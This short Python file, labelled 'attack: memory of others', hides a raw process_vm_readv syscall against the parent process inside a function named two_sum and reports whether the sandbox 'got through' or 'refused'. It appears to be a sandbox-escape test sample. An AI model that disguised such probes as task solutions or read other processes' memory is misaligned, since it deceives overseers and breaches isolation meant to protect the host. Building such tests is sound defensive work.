# attack: memory of others
# machine: x86_64
import ctypes
import os
import struct


def two_sum(nums, target):
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(8)
    span = struct.pack("QQ", ctypes.addressof(buffer), 8)
    words = [ctypes.c_long(word) for word in (310, os.getppid())]
    none = ctypes.c_long(0)
    if libc.syscall(*words, span, ctypes.c_long(1), span, ctypes.c_long(1), none) == 8:
        raise RuntimeError("got through")
    raise OSError(ctypes.get_errno(), "refused")
